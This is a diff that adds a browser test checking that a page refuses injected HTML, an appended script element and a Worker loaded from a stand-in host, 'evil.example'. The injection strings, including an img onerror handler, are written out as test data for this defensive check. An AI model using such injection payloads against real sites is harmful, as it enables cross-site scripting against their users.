@@ -328,6 +328,32 @@ describeInChromium('the page', () => {
     expect(one.complaints).toEqual([])
   })
 
+  test('even code on the page cannot make markup or scripts of texts', async ({ shown }) => {
+    const one = await shown.looking()
+    await expect.poll(() => one.text()).toContain('3 migrations')
+    const tried = await one.page.evaluate(() => {
+      const attempts = [
+        () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="this.id = 1">'),
+        () => {
+          document.body.append(
+            Object.assign(document.createElement('script'), { textContent: 'document.title = "run"' }),
+          )
+        },
+        () => void new Worker('https://evil.example/worker.js'),
+      ]
+      return attempts.map((attempt) => {
+        try {
+          attempt()
+          return 'done'
+        } catch {
+          return 'refused'
+        }
+      })
+    })
+    expect(tried).toEqual(['refused', 'refused', 'refused'])
+    expect(await one.page.title()).not.toBe('run')
+  })
+
   test('500 migrations: found by number or by name, and only what is in view is in the document', async ({ shown }) => {
     const files = Object.fromEntries(
       Array.from({ length: 500 }, (_, i) => [
